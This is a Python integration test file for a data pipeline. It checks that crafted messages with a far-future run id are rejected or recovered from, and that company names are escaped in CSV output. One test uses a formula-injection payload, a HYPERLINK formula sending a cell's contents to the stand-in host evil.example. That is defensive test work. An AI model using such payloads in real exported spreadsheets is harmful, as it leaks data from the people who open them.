"""Messages and names that want to harm the pipeline or those who read its results."""

from __future__ import annotations

import csv
import io
import json

from local.demo.pipeline_client import read_object, result_objects
from tests.integration.harness import Pipeline, wait_until

FUTURE = "99991231T235959Z-0123abcd"


def test_a_run_of_the_future_does_not_freeze_a_company(pipeline: Pipeline) -> None:
    """It would be newer than all runs to come, which would then leave the latest observation as it is."""
    pipeline.control.set_text("Frozen", "A wonderful company.")
    pipeline.add(["Frozen"])
    message = json.dumps({"run": FUTURE, "company": "Frozen"})
    pipeline.send(message)
    wait_until(lambda: message in pipeline.dead_letters(), 60, "the dead letter")

    run = pipeline.start()["run"]
    pipeline.follow(run, ["Frozen"])

    assert pipeline.latest("Frozen")["run"] == run
    assert [observation["run"] for observation in pipeline.history("Frozen")] == [run]


def test_dispatch_refuses_a_run_of_the_future(pipeline: Pipeline) -> None:
    pipeline.add(["Anyone"])
    answer = pipeline.client("lambda").invoke(
        FunctionName=pipeline.outputs["dispatch_function"], Payload=json.dumps({"run": FUTURE}).encode()
    )

    assert answer["FunctionError"]
    assert "expected a run that has started" in answer["Payload"].read().decode()
    assert pipeline.waiting() == 0


def test_company_frozen_by_an_earlier_version_is_looked_at_again(pipeline: Pipeline) -> None:
    pipeline.control.set_text("Thawed", "A wonderful company.")
    pipeline.add(["Thawed"])
    pipeline.follow(pipeline.start()["run"], ["Thawed"])
    pipeline.idle()
    pipeline.client("dynamodb").update_item(
        TableName=pipeline.outputs["observations_table"],
        Key={"company": {"S": "Thawed"}, "record": {"S": "latest"}},
        UpdateExpression="SET #run = :run",
        ExpressionAttributeNames={"#run": "run"},
        ExpressionAttributeValues={":run": {"S": FUTURE}},
    )

    run = pipeline.start()["run"]
    wait_until(lambda: pipeline.latest("Thawed")["run"] == run, 30, "the newest run")


def test_names_and_texts_are_no_formulas_in_a_spreadsheet(pipeline: Pipeline) -> None:
    name = '=HYPERLINK("http://evil.example?leak="&A1,"Open")'
    pipeline.control.set_text(name, "@SUM(1+1) is a wonderful company.")
    pipeline.add([name])

    run = pipeline.start()["run"]
    pipeline.rows_of(run, 1)

    [key] = result_objects(pipeline.stack, run)
    [row] = csv.DictReader(io.StringIO(read_object(pipeline.stack, key), newline=""))
    assert row["company"] == f"'{name}"
    assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in row.values())
